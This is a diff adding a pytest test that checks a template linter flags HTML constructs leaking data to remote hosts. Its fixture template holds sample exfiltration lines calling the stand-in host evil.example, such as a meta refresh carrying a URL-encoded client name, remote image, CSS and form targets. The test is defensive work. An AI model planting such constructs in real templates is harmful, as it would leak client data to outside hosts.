@@ -263,3 +263,35 @@ def test_a_type_error_in_a_template_is_exit_3_not_a_crash(ws, tpl):
     name = tpl("te.txt.j2", '{{ "x".center("wide") }}')
     with pytest.raises(DataError, match="TypeError"):
         templating.render(ws, name, {}, fmt="txt")
+
+
+# --- templates check names each construct with its file and line -------------------------------
+
+def test_templates_check_reports_each_leaking_construct_with_its_line(run, ws_path):
+    note_template(ws_path, "\n".join([
+        "<!-- <head> -->",
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/?{{ client.name|urlencode }}">',
+        '<base href="/">',
+        '<img src="https://evil.example/{{ note.id }}.png">',
+        '<img src="a.png" srcset="a.png 1x, //evil.example/b.png 2x">',
+        "<p style=\"background: url('https://evil.example/x')\">{{ note.id }}</p>",
+        '<style>@import "https://evil.example/a.css";</style>',
+        '<form action="https://evil.example/"><button formaction="https://evil.example/b">x</button></form>',
+        '<a href="{{ note.id }}.html">a local link is fine</a>',
+        '<img src="https://agency.example/logo.png">',
+    ]))
+    with open(ws_path / "peerkit.toml", "a") as f:
+        f.write('\n[templates]\nallowed_hosts = ["agency.example"]\n')
+    result = run("templates", "check")
+    assert result.exit_code == 1
+    where = "templates/notes/note.html.j2"
+    for line, construct in [(1, "HTML comment containing <head>"), (2, "<meta http-equiv=refresh>"),
+                            (3, "<base>"), (4, "remote address in <img src>"),
+                            (5, "remote address in <img srcset>"),
+                            (6, "remote address in a style attribute of <p>"),
+                            (7, "remote address in <style>"), (8, "remote address in <form action>"),
+                            (8, "remote address in <button formaction>")]:
+        assert any(l.startswith(f"warning: {where}:{line}: ") and construct in l
+                   for l in result.output.splitlines()), construct
+    assert f"{where}:9:" not in result.output and f"{where}:10:" not in result.output
+    assert "No risky constructs" not in result.output
